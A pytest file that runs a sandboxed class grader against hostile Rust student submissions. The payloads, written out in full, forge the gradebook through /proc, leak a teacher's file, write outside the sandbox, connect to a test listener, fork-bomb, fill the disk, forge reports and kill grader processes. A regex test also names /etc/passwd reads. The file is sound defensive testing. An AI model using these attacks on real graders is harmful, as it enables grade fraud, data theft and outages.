"""A hostile class: `make grade` (scripts/grade_class.py) against students who attack it.

Each attack is what a student can write in their function cells, with the standard library
only (`extern "C"` declarations of libc's fork/setsid/kill are part of that: no crate). The
other cells of an attacker are the reference solution, or todo!() where the attack is about
raising a low grade, so each row has a known honest total. Checked: the attacker gets the
points of its own work and nothing else, no file outside the sandbox is read or written,
no connection reaches a listener, nothing the student started is left running, and the
grader finishes.

`NN_EX4_GRADE_SCRIPT=path/to/old/grade_class.py` runs the same attacks against another
grader (how the report of the sandbox issue checked that they succeed against the old one).

Needs: cargo, bubblewrap (`bwrap`) and user namespaces; builds the class project in
target/grade-class. Without the sandbox the attacks skip (marker `needs_sandbox`, one summary
line; NN_EX4_REQUIRE=sandbox makes that a failure).
"""

from __future__ import annotations

import csv
import os
import secrets
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from test_grade_class import load  # (this folder is on sys.path under pytest)

REPO = Path(__file__).resolve().parents[2]
SCRIPT = Path(os.environ.get("NN_EX4_GRADE_SCRIPT", REPO / "scripts/grade_class.py"))
TODO_COST = ("fn nn_cost_function(theta1: &Array2<f64>, theta2: &Array2<f64>, x: &Array2<f64>, y: &Array1<usize>,"
             " lambda: f64) -> nn_core::Result<(f64, Array2<f64>, Array2<f64>)> {\n    todo!()\n}\n")
SIG_HEAD = "fn sigmoid_gradient(z: &Array2<f64>) -> Array2<f64> {\n"
SIG_TAIL = "    let g = sigmoid(z);\n    &g * &(1.0 - &g)\n}\n"
ONCE = "    static ONCE: std::sync::Once = std::sync::Once::new();\n    ONCE.call_once(|| {\n"
LIBC = ('    extern "C" {\n        fn fork() -> i32;\n        fn setsid() -> i32;\n        fn kill(pid: i32, sig: i32) -> i32;\n'
        '        fn _exit(code: i32) -> !;\n    }\n')
# The grader's GRADES folder, from its command line in /proc (python3 grade_class.py SUBMISSIONS GRADES).
FIND_GRADES = r'''
        let mut grades = None;
        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let p = e.path();
            let Ok(raw) = std::fs::read(p.join("cmdline")) else { continue };
            let args: Vec<String> = raw.split(|b| *b == 0).map(|a| String::from_utf8_lossy(a).into_owned()).collect();
            if let Some(i) = args.iter().position(|a| a.ends_with("grade_class.py")) {
                if let Some(g) = args.get(i + 2) {
                    grades = Some(std::fs::read_link(p.join("cwd")).unwrap_or_default().join(g));
                }
            }
        }
'''


def sig(attack: str) -> str:
    """sigmoid_gradient with `attack` run once (on its first call), then the right answer."""
    return f"{SIG_HEAD}{LIBC}{ONCE}{attack}\n    }});\n{SIG_TAIL}"


def sig_panics(attack: str) -> str:
    """sigmoid_gradient that runs `attack` (an expression giving a String) and panics with it."""
    return f"{SIG_HEAD}{LIBC}    let msg: String = {{ {attack} }};\n    panic!(\"{{msg}}\")\n}}\n"


def attacks(ctx: dict) -> dict[str, dict[str, str]]:
    """student -> the cells that differ from the reference solution."""
    canary, outside, subs, port = ctx["canary"], ctx["outside"], ctx["submissions"], ctx["port"]
    return {
        "reference": {},
        # Own work: 5 (sigmoid_gradient). A detached (setsid, double fork) process finds the
        # grader's GRADES in /proc and rewrites its row of gradebook.csv and its cached result.
        "forge": {"nn_cost_function": TODO_COST.replace("todo!()", 'Err(nn_core::NnError::Plot("forge-mark".into()))'),
                  "sigmoid_gradient": sig(FIND_GRADES + r'''
        let Some(grades) = grades else { return };
        unsafe {
            if fork() != 0 { return; }
            setsid();
            if fork() != 0 { _exit(0); }
            for _ in 0..900 {
                std::thread::sleep(std::time::Duration::from_millis(100));
                let book = grades.join("gradebook.csv");
                if let Ok(text) = std::fs::read_to_string(&book) {
                    if text.lines().any(|l| l.starts_with("forge,") && !l.starts_with("forge,30,15,5,40,10,100")) {
                        let new: Vec<String> = text.lines().map(|l| if l.starts_with("forge,") {
                            "forge,30,15,5,40,10,100,ok".to_string() } else { l.to_string() }).collect();
                        let _ = std::fs::write(&book, new.join("\n") + "\n");
                    }
                }
                for c in std::fs::read_dir(grades.join(".cache")).into_iter().flatten().flatten() {
                    let Ok(t) = std::fs::read_to_string(c.path()) else { continue };
                    if t.contains("forge-mark") && t.contains("\"score\":0,\"max\":30") {
                        let mut t = t;
                        for n in [30, 15, 40, 10] {
                            t = t.replace(&format!("\"score\":0,\"max\":{n}"), &format!("\"score\":{n},\"max\":{n}"));
                        }
                        let _ = std::fs::write(c.path(), t);
                    }
                }
            }
            _exit(0);
        }''')},
        # A teacher's file read at run time, leaked in a panic message and in an error value.
        "canary": {"sigmoid_gradient": sig_panics(f'std::fs::read_to_string("{canary}").unwrap_or_else(|e| e.to_string())'),
                   "nn_cost_function": TODO_COST.replace("todo!()", f'Err(nn_core::NnError::Plot('
                                                         f'std::fs::read_to_string("{canary}").unwrap_or_default()))')},
        # ... and at compile time.
        "canary-include": {"sigmoid_gradient": f'{SIG_HEAD}    panic!("{{}}", include_str!("{canary}"))\n}}\n'},
        # Files written outside the scratch folder (the reference's points otherwise: 100).
        "write-outside": {"sigmoid_gradient": sig(f'''
        let _ = std::fs::write("{outside}/pwned", "x");
        let _ = std::fs::write("{subs}/pwned.ipynb", "x");
        let _ = std::fs::write("/tmp/nn-ex4-pwned-{ctx['token']}", "x");''')},
        # A TCP connection to a listener of the test (100 otherwise).
        "network": {"sigmoid_gradient": sig(f'''
        if let Ok(mut s) = std::net::TcpStream::connect("127.0.0.1:{port}") {{
            use std::io::Write;
            let _ = s.write_all(b"leak");
        }}''')},
        # A process left behind: setsid, double fork, sleep (100 otherwise).
        "leftover": {"sigmoid_gradient": sig('''
        unsafe {
            if fork() == 0 {
                setsid();
                if fork() == 0 { std::thread::sleep(std::time::Duration::from_secs(120)); }
                _exit(0);
            }
        }''')},
        # A fork bomb (bounded at 300, each child sleeping 20 s): how many it got, in a panic
        # message. sigmoid_gradient is graded after the four cost parts (95 otherwise).
        "fork-bomb": {"sigmoid_gradient": sig_panics('''
            let mut n = 0;
            for _ in 0..300 {
                let pid = unsafe { fork() };
                if pid == 0 { std::thread::sleep(std::time::Duration::from_secs(20)); unsafe { _exit(0) } }
                if pid < 0 { break; }
                n += 1;
            }
            format!("forked {n} of 300")''')},
        # Filling the disk from the working folder: 1 MiB at a time, up to 400 MiB (95 otherwise).
        "fill-disk": {"sigmoid_gradient": sig_panics('''
            use std::io::Write;
            let chunk = vec![7u8; 1 << 20];
            let mut n = 0;
            for i in 0..400 {
                let Ok(mut f) = std::fs::File::create(format!("fill-{i}")) else { break };
                if f.write_all(&chunk).is_err() { break; }
                n += 1;
            }
            format!("wrote {n} MiB")''')},
        # A 64 MiB panic message (95 otherwise).
        "huge-panic": {"sigmoid_gradient": sig_panics('"A".repeat(64 << 20)')},
        # A grader table printed on stdout and stderr and returned as an error (own work: 5).
        "fake-table": {"nn_cost_function": TODO_COST.replace("todo!()", '''{
    let fake = "Part                  Score\\nFeedforward and cost  30 / 30\\nTotal                100 / 100\\nforged: 100 / 100";
    println!("{fake}");
    eprintln!("{fake}");
    Err(nn_core::NnError::Plot(fake.into()))
}''')},
        # The report forged: its file (old grader: named on the command line) or the result
        # channel (any descriptor), then the parent killed so that the forgery is what is read.
        "forge-report": {"nn_cost_function": TODO_COST,
                         "sigmoid_gradient": sig(r'''
        let forged = "{\"total\":100,\"max\":100,\"table\":\"forged\",\"parts\":[\
{\"part\":\"Feedforward and cost\",\"function\":\"nn_cost_function\",\"score\":30,\"max\":30,\"message\":\"ok\",\"mistake\":null},\
{\"part\":\"Regularized cost\",\"function\":\"nn_cost_function\",\"score\":15,\"max\":15,\"message\":\"ok\",\"mistake\":null},\
{\"part\":\"Sigmoid gradient\",\"function\":\"sigmoid_gradient\",\"score\":5,\"max\":5,\"message\":\"ok\",\"mistake\":null},\
{\"part\":\"Backpropagation\",\"function\":\"nn_cost_function\",\"score\":40,\"max\":40,\"message\":\"ok\",\"mistake\":null},\
{\"part\":\"Regularized gradient\",\"function\":\"nn_cost_function\",\"score\":10,\"max\":10,\"message\":\"ok\",\"mistake\":null}],\"init\":null}";
        let raw = std::fs::read("/proc/self/cmdline").unwrap_or_default();
        for a in raw.split(|b| *b == 0) {
            let a = String::from_utf8_lossy(a);
            if a.ends_with(".json") { let _ = std::fs::write(&*a, forged); }
        }
        let mut frame = (forged.len() as u64).to_le_bytes().to_vec();
        frame.extend_from_slice(forged.as_bytes());
        for fd in 0..16 {
            use std::os::fd::FromRawFd;
            use std::io::Write;
            let mut f = std::mem::ManuallyDrop::new(unsafe { std::fs::File::from_raw_fd(fd) });
            let _ = f.write_all(&frame);
        }
        unsafe { kill(std::os::unix::process::parent_id() as i32, 9); }''')},
        # The kit's own solution called, directly and through an alias (graded, and flagged).
        "calls-solution": {"nn_cost_function": TODO_COST.replace("todo!()", "nn_core::nn_cost_function(theta1, theta2, x, y, lambda)"),
                           "sigmoid_gradient": f"{SIG_HEAD}    nn_core::sigmoid_gradient(z)\n}}\n"},
        "calls-solution-alias": {"nn_cost_function": "use nn_core as kit;\n" + TODO_COST.replace(
            "todo!()", "let f = kit::nn_cost_function;\n    f(theta1, theta2, x, y, lambda)")},
    }


def copy_of_reference(reference: dict[str, str]) -> dict[str, str]:
    """The reference's nn_cost_function with its names changed and its comments gone."""
    src = reference["nn_cost_function"]
    src = "\n".join(line.split("//")[0].rstrip() for line in src.split("\n") if not line.strip().startswith("///"))
    for a, b in [("theta1_grad", "grad_one"), ("theta2_grad", "grad_two"), ("delta3", "d_out"), ("delta2", "d_hid"),
                 ("num_labels", "k"), ("squares", "sq"), ("y_k", "onehot"), ("mf", "mm")]:
        src = src.replace(a, b)
    return {"nn_cost_function": src}


def run_grader(submissions: Path, grades: Path, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(SCRIPT), str(submissions), str(grades), "--time-limit", "3", *extra],
                          cwd=REPO, capture_output=True, text=True, timeout=900)


def rows(grades: Path) -> dict[str, dict[str, str]]:
    with open(grades / "gradebook.csv", newline="") as f:
        return {r["student"]: r for r in csv.DictReader(f)}


def class_processes() -> list[int]:
    """Processes running a class binary (what a student's code runs as)."""
    found = []
    for p in Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                exe = os.readlink(p / "exe")
            except OSError:
                continue
            if Path(exe.removesuffix(" (deleted)")).name == "class":
                found.append(int(p.name))
    return found


class Listener:
    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(100) or b"(connected)")
            except OSError:
                self.received.append(b"(connected)")
            conn.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    token = secrets.token_hex(8)
    canary = root / "teacher" / "canary.txt"
    canary.parent.mkdir()
    canary.write_text(f"CANARY-{token}")
    outside = root / "outside"
    outside.mkdir()
    submissions, grades = root / "submitted", root / "grades"
    submissions.mkdir()
    listener = Listener()
    make_class = load("make_class")
    reference = make_class.reference()
    ctx = {"canary": canary, "outside": outside, "submissions": submissions, "port": listener.port, "token": token}
    students = attacks(ctx)
    students["copy"] = copy_of_reference(reference)
    for student, cells in students.items():
        (submissions / f"{student}.ipynb").write_text(make_class.notebook_with({**reference, **cells}))
    before = set(class_processes())
    t = time.monotonic()
    p = run_grader(submissions, grades)
    seconds = time.monotonic() - t
    time.sleep(2)  # what a detached process of a student does after the grader ended
    leftovers = [pid for pid in class_processes() if pid not in before]
    for pid in leftovers:  # (the old grader's leftovers: not ours to keep)
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
    listener.stop = True
    yield {"proc": p, "grades": grades, "submissions": submissions, "outside": outside, "token": token,
           "listener": listener, "leftovers": leftovers, "seconds": seconds, "reference": reference}
    Path(f"/tmp/nn-ex4-pwned-{token}").unlink(missing_ok=True)


def total(h, student):
    return rows(h["grades"])[student]["total"]


def everything_written(h) -> str:
    return "\n".join(p.read_text(errors="replace") for p in h["grades"].rglob("*") if p.is_file() and p.suffix != ".png")


@pytest.mark.needs_sandbox
def test_the_grader_finishes(hostile):
    p = hostile["proc"]
    assert p.returncode == 0, p.stdout[-3000:] + p.stderr[-3000:]


@pytest.mark.needs_sandbox
def test_the_honest_students_keep_their_points(hostile):
    r = rows(hostile["grades"])
    assert r["reference"]["total"] == "100"
    assert r["copy"]["total"] == "100"


@pytest.mark.needs_sandbox
def test_a_forged_gradebook_row_and_cache_do_not_count(hostile):
    grades = hostile["grades"]
    time.sleep(1)
    assert total(hostile, "forge") == "5"
    # The re-run takes every grade from the cache: the forger's cached result is its own.
    p = run_grader(hostile["submissions"], grades)
    assert p.returncode == 0, p.stderr[-2000:]
    assert total(hostile, "forge") == "5"
    assert total(hostile, "reference") == "100"


@pytest.mark.needs_sandbox
def test_a_teachers_file_does_not_leak(hostile):
    written = everything_written(hostile)
    assert f"CANARY-{hostile['token']}" not in written
    r = rows(hostile["grades"])
    assert "include_str" in (hostile["grades"] / "feedback/canary-include.html").read_text()
    assert r["canary-include"]["total"] == "95"  # the cell is refused; the others count


@pytest.mark.needs_sandbox
def test_nothing_is_written_outside_the_scratch_folder(hostile):
    assert not (hostile["outside"] / "pwned").exists()
    assert not (hostile["submissions"] / "pwned.ipynb").exists()
    assert not Path(f"/tmp/nn-ex4-pwned-{hostile['token']}").exists()
    assert total(hostile, "write-outside") == "100"


@pytest.mark.needs_sandbox
def test_no_connection_reaches_the_network(hostile):
    assert hostile["listener"].received == []
    assert total(hostile, "network") == "100"


@pytest.mark.needs_sandbox
def test_nothing_a_student_started_is_left_running(hostile):
    assert hostile["leftovers"] == []
    assert total(hostile, "leftover") == "100"


@pytest.mark.needs_sandbox
def test_a_fork_bomb_is_stopped(hostile):
    page = (hostile["grades"] / "feedback/fork-bomb.html").read_text()
    assert "forked 300 of 300" not in page
    assert total(hostile, "fork-bomb") == "95"


@pytest.mark.needs_sandbox
def test_the_disk_is_not_filled(hostile):
    page = (hostile["grades"] / "feedback/fill-disk.html").read_text()
    assert "wrote 400 MiB" not in page
    assert total(hostile, "fill-disk") == "95"


@pytest.mark.needs_sandbox
def test_a_huge_panic_message_is_cut(hostile):
    page = hostile["grades"] / "feedback/huge-panic.html"
    assert page.stat().st_size < 1 << 20
    assert total(hostile, "huge-panic") == "95"


@pytest.mark.needs_sandbox
def test_a_fake_grader_table_gets_nothing(hostile):
    assert total(hostile, "fake-table") == "5"
    page = (hostile["grades"] / "feedback/fake-table.html").read_text()
    assert "5 / 100" in page


@pytest.mark.needs_sandbox
def test_a_forged_report_gets_nothing(hostile):
    # Its frame on every descriptor, then its parent killed: no report is taken, no points.
    row = rows(hostile["grades"])["forge-report"]
    assert row["total"] == "0", row


@pytest.mark.needs_sandbox
def test_calls_to_the_kits_solution_are_flagged(hostile):
    r = rows(hostile["grades"])
    assert r["calls-solution"]["total"] == "100"  # graded...
    assert "calls nn_core::nn_cost_function" in r["calls-solution"]["flags"]  # ...and flagged
    assert "calls nn_core::sigmoid_gradient" in r["calls-solution"]["flags"]
    assert "calls nn_core::nn_cost_function" in r["calls-solution-alias"]["flags"]
    assert r["reference"]["flags"] == "" or "calls" not in r["reference"]["flags"]
    page = (hostile["grades"] / "feedback/calls-solution.html").read_text()
    assert "calls nn_core::nn_cost_function" in page


@pytest.mark.needs_sandbox
def test_near_identical_submissions_are_listed(hostile):
    r = rows(hostile["grades"])
    assert "similar to reference" in r["copy"]["flags"]
    md = (hostile["grades"] / "summary.md").read_text()
    assert "| copy | reference |" in md or "| reference | copy |" in md


AS_USER = """
import sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from grading.extract import Submission, module_name
from grading.project import Project
from grading.sandbox import Sandbox, run_student
project = Project(Path(sys.argv[2]))
sandbox = Sandbox(True, 1)
problem = sandbox.check()
assert not problem, problem
sandbox.prepare(project)
s = Submission("reference", Path("-"))
s.module = module_name("reference")
r = run_student(project, sandbox, s, 3.0, 1024)
sandbox.cleanup()
print(r["status"], r["report"] and r["report"]["total"])
"""


@pytest.mark.needs_sandbox
def test_the_sandbox_works_for_an_ordinary_user(tmp_path):
    """As uid 65534 (no root: the sandbox's namespaces are unprivileged user namespaces), the
    reference student of a class just built scores 100 in the sandbox."""
    if os.geteuid() != 0:
        pytest.skip("not root: every other test here already ran as an ordinary user")
    make_class = load("make_class")
    (tmp_path / "class").mkdir()
    (tmp_path / "class" / "reference.ipynb").write_text(make_class.notebook_with(make_class.reference()))
    built = run_grader(tmp_path / "class", tmp_path / "grades")  # (as root: builds the project with it)
    assert built.returncode == 0, built.stderr[-2000:]
    p = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", AS_USER,
                        str(REPO / "scripts"), str(REPO / "target/grade-class")], capture_output=True, text=True,
                       timeout=120, cwd="/", env={"PATH": os.environ["PATH"], "HOME": "/tmp"})
    assert p.returncode == 0 and p.stdout.split() == ["ok", "100"], p.stdout + p.stderr


@pytest.mark.needs_sandbox
def test_killing_every_process_in_sight_does_not_stop_the_grader(tmp_path):
    make_class = load("make_class")
    reference = make_class.reference()
    submissions = tmp_path / "submitted"
    submissions.mkdir()
    # Every process it can see that is the grader or a class binary (other processes of the
    # machine are spared: the old grader ran as the teacher and would have killed them too).
    killer = sig('''
        let me = std::process::id();
        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else { continue };
            let cmd = String::from_utf8_lossy(&std::fs::read(e.path().join("cmdline")).unwrap_or_default()).into_owned();
            if pid as u32 != me && (cmd.contains("grade_class") || cmd.contains("class\\0") || cmd.contains("/class")) {
                unsafe { kill(pid, 9); }
            }
        }''')
    for student, cells in {"killer": {"sigmoid_gradient": killer}, "reference": {}}.items():
        (submissions / f"{student}.ipynb").write_text(make_class.notebook_with({**reference, **cells}))
    p = run_grader(submissions, tmp_path / "grades")
    assert p.returncode == 0, p.stdout[-2000:] + p.stderr[-2000:]
    r = rows(tmp_path / "grades")
    assert r["reference"]["total"] == "100"
    # All it could see and kill was its own program: no report, no points (the old grader died).
    assert r["killer"]["total"] == "0" and "no report" in r["killer"]["status"], r["killer"]


def test_what_counts_as_calling_the_kits_solution():
    sys.path.insert(0, str(REPO / "scripts"))
    from grading.integrity import normalized, similar_pairs, solution_calls
    own = ("fn nn_cost_function(t: &Array2<f64>) -> nn_core::Result<f64> {\n"
           "    // not nn_core::nn_cost_function: my own\n    let g = sigmoid_gradient(&z);\n"
           "    Err(nn_core::NnError::Plot(\"nn_core::lecture\".into()))\n}\n")
    assert solution_calls({"nn_cost_function": own}) == []
    assert solution_calls({"a": "use nn_core::nn_cost_function as f;"}) == ["calls nn_core::nn_cost_function"]
    assert "imports the kit's lecture" in solution_calls({"a": "use nn_core::lecture::cost::*;"})
    assert solution_calls({"a": "macro_rules! k { ($f:ident) => { nn_core::$f } }"}) == [
        "builds a path into the kit in a macro"]
    assert solution_calls({"a": "let n = Network::debug(&[3, 5, 3]);"}) == ["uses the kit's Network"]
    assert solution_calls({"a": "extern crate nn_grader as g; g::scoring::run_cost"}) == ["uses the kit's scoring"]
    # Names changed, comments gone: the same code.
    a = "fn f(x: f64) -> f64 { let y = x * 2.0; // twice\n y + 1.0 }"
    b = "fn g(v: f64) -> f64 {\n    let w = v * 2.0;\n    w + 1.0\n}"
    c = "fn g(v: f64) -> f64 { let mut w = 0.0; for i in 0..10 { w += v * i as f64; } w.sqrt() }"
    pairs = similar_pairs({"a": normalized(a), "b": normalized(b), "c": normalized(c), "empty": []})
    assert pairs == [("a", "b", 1.0)]


def test_compile_time_reads_are_refused():
    sys.path.insert(0, str(REPO / "scripts"))
    from grading.extract import COMPILE_TIME_READS
    for bad in ['include_str!("/etc/passwd")', 'core::include_bytes!("x")', 'r#include!("x")', 'env!("HOME")',
                'option_env! ("HOME")', '#[path = "/etc/x.rs"] mod x;', "#![path]"]:
        assert COMPILE_TIME_READS.search(bad), bad
    for fine in ["let environment = 1;", "fn include(x: u8) {}", "let env = 3; env + 1", "#[allow(unused)]"]:
        assert not COMPILE_TIME_READS.search(fine), fine
